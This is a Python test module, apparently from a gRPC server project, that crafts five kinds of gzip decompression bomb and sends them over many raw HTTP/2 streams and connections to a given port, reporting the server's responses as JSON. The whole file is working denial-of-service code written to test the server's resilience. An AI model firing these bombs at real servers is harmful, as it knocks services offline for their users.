"""`python -m tests.attacks.gzip_bombs KIND PATH PORT` sends compressed messages that cost much.

It prints as JSON how often each gRPC status came, how many bytes were sent, and how many streams
were reset or not answered.
"""

import gzip
import json
import random
import struct
import sys
import time
import zlib
from collections import Counter

from tests.walks.wire.http2_frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    SETTINGS,
    WINDOW_UPDATE,
    RawConnection,
    call_header_block,
    grpc_status_and_message,
    raw_frame,
    raw_grpc_message,
)

GZIP = ((b"grpc-encoding", b"gzip"),)
MESSAGE_BYTES = 4 * 1024 * 1024 - 100
FRAME_BYTES = 16_384
STREAMS, CONNECTIONS, SECONDS_MAX = 32, 24, 40.0


def near_ratio() -> bytes:
    """Return gzip that unpacks to just under a hundred times as many bytes."""
    noise = random.Random(1).randbytes(38_000)
    return gzip.compress(noise + bytes(MESSAGE_BYTES - len(noise)), 9)


def empty_blocks() -> bytes:
    """Return 4 MB of gzip whose 800,000 blocks have no content."""
    head = gzip.compress(b"", mtime=0)[:10]
    return head + b"\0\0\0\xff\xff" * 800_000 + b"\1\0\0\xff\xff" + struct.pack("<II", 0, 0)


def empty_tables() -> bytes:
    """Return gzip of many blocks that have Huffman tables, and no content but their end."""
    one = zlib.compressobj(9, zlib.DEFLATED, -15)
    text = bytes(range(256)) * 2
    block = one.compress(text) + one.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(b"", mtime=0)[:10] + block * (MESSAGE_BYTES // len(block) // 2)


BOMBS = {
    "zeros": lambda: gzip.compress(bytes(MESSAGE_BYTES), 9),
    "near ratio": near_ratio,
    "members": lambda: gzip.compress(b"", mtime=0) * 209_714,
    "empty blocks": empty_blocks,
    "many tables": empty_tables,
}


class BombConnection(RawConnection):
    """A connection that keeps to the server's flow-control windows."""

    def __init__(self, port: int) -> None:
        self._initial, self._windows = 65_535, Counter[int]({0: 65_535})
        super().__init__(port)

    def on_frame(self, kind: int | None, flags: int, stream: int, payload: bytes) -> None:
        """Note windows too."""
        if kind == WINDOW_UPDATE:
            self._windows[stream] += int.from_bytes(payload[:4], "big")
        elif kind == SETTINGS and payload:
            settings = dict(struct.iter_unpack(">HI", payload))
            self._initial = settings.get(4, self._initial)
        super().on_frame(kind, flags, stream, payload)

    def send_message(self, stream: int, path: str, message: bytes, give_up: float) -> bool:
        """Send one call; False when its stream or the connection ended before all was sent."""
        block = call_header_block(path, more=GZIP)
        if not self.send(raw_frame(HEADERS, END_HEADERS, stream, block)):
            return False
        body, at = raw_grpc_message(message, compressed=1), 0
        while at < len(body):
            if self.over(stream) or time.monotonic() > give_up:
                return False
            room = min(self._initial + self._windows[stream], self._windows[0], FRAME_BYTES)
            if room <= 0:
                if not self.read(0.05):
                    return False
                continue
            piece = body[at : at + room]
            at += len(piece)
            flags = END_STREAM if at == len(body) else 0
            self._windows[stream] -= len(piece)
            self._windows[0] -= len(piece)
            if not self.send(raw_frame(DATA, flags, stream, piece)):
                return False
        return True

    def over(self, stream: int) -> bool:
        """Return True if the stream has ended."""
        return stream in self.ended_streams or stream in self.reset_streams


def send_bombs(kind: str, path: str, port: int) -> dict[str, object]:
    """Send one bomb on each stream of each connection, then wait for what becomes of them."""
    bomb, give_up = BOMBS[kind](), time.monotonic() + SECONDS_MAX
    # Large bombs go one a connection, as in the findings: their bytes are the attack.
    large = len(bomb) > 100_000
    connections, streams = (6, range(1, 2, 2)) if large else (CONNECTIONS, range(1, 2 * STREAMS, 2))
    wires = [BombConnection(port) for _ in range(connections)]
    for wire in wires:
        wire.read(1.0)
    for stream in streams:
        for wire in wires:
            wire.send_message(stream, path, bomb, give_up)
    open_wires = wires
    while open_wires and time.monotonic() < give_up:
        open_wires = [
            wire
            for wire in open_wires
            if not all(wire.over(stream) for stream in streams) and wire.read(0.01)
        ]
    # What became of each call.
    statuses = Counter(
        str(grpc_status_and_message(headers)[0])
        for wire in wires
        for headers in wire.ended_streams.values()
    )
    reset = sum(len(wire.reset_streams.keys() - wire.ended_streams.keys()) for wire in wires)
    calls = len(wires) * len(streams)
    unanswered = calls - statuses.total() - reset
    return {"statuses": statuses, "reset": reset, "unanswered": unanswered, "bytes": len(bomb)}


if __name__ == "__main__":
    print(json.dumps(send_bombs(sys.argv[1], sys.argv[2], int(sys.argv[3]))), flush=True)  # noqa: T201
